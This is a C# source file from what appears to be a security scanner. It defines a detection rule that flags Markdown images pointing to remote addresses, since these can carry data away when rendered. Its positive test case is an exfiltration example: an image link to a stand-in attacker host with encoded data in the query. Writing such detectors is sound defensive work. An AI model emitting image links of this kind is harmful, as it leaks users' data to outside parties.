namespace ServerlessGuard.Detection.Rules.Markup;

/// <summary>Markdown image with a remote address: a client that renders it fetches it, and the address carries data away.</summary>
internal sealed class MarkdownRemoteImage : IRuleSource
{
    public static Rule Rule { get; } = new()
    {
        Id = "SG-MRK-001",
        Kind = "markdown-image",
        Category = FindingCategory.Markup,
        Anchor = Anchor.StartsWith("!["),
        Pattern = @"!\[[^\]\n]{0,300}\]\(\s{0,4}<?(?:https?:)?(?://|\\\\)[^\s)>]+>?(?:\s{1,4}[""\x27(][^\n)]{0,100}[""\x27)])?\s{0,4}\)",
        IgnoreCase = true,
        MaxLength = 2048,
        LeftBoundary = false,
        RightBoundary = false,
        Stop = "\n",
        Confidence = 0.9,
        Positives = [
            "Look «![logo](https://evil.contoso.net/p.png?d=QW5uYQ)» here",
        ],
        Negatives = [
            "![diagram](./docs/flow.png)",
            "Wow![1]",
        ],
    };
}
